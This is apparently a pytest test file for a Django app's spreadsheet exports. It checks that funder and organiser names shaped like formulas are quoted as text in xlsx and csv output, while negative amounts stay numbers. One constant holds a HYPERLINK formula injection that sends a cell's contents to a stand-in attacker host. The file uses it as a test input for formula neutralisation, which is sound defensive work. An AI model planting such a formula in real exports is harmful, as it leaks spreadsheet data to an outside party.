"""Exports: text that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import neutralise_formula
from reports.figures import Params, compute
from reports.models import Funding
from reports.renderers import render
from tests.factories import TrainingSessionFactory

pytestmark = pytest.mark.django_db
YEAR_2018 = Params(on=datetime.date(2018, 12, 31), start_year=2018, end_year=2018)
LINK = '=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik hier")'


def funding_sheet():
    return load_workbook(io.BytesIO(render(compute("funding", YEAR_2018), "xlsx"))).active


def trainings_csv() -> list[list[str]]:
    text = render(compute("trainings", YEAR_2018), "csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_funder_named_like_a_formula_is_text_in_the_xlsx():
    Funding.objects.create(year=2018, funder=LINK, amount=Decimal("1500.00"))

    cell = funding_sheet()["B2"]

    assert cell.data_type == "s" and cell.value == "'" + LINK


def test_a_negative_amount_stays_a_number_in_the_xlsx():
    Funding.objects.create(year=2018, funder="Terugbetaling", amount=Decimal("-1500.00"))

    cell = funding_sheet()["C2"]

    assert cell.data_type == "n" and cell.value == -1500


@pytest.mark.parametrize("organiser", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2"])
def test_an_imported_organiser_named_like_a_formula_is_quoted_in_the_csv(organiser):
    TrainingSessionFactory(date=datetime.date(2018, 5, 1), organiser_name=organiser)

    assert trainings_csv()[1][1] == "'" + organiser


def test_a_negative_amount_is_not_quoted_in_the_csv():
    Funding.objects.create(year=2018, funder="Terugbetaling", amount=Decimal("-1500.00"))

    text = render(compute("funding", YEAR_2018), "csv").decode("utf-8-sig")

    assert "2018;Terugbetaling;-1.500,00;" in text


@pytest.mark.parametrize("value", [-3, Decimal("-2.50"), -1.5, None, datetime.date(2018, 1, 1), "Gent", "'s-Gravenvoeren"])
def test_values_that_cannot_run_are_left_as_they_are(value):
    assert neutralise_formula(value) == value
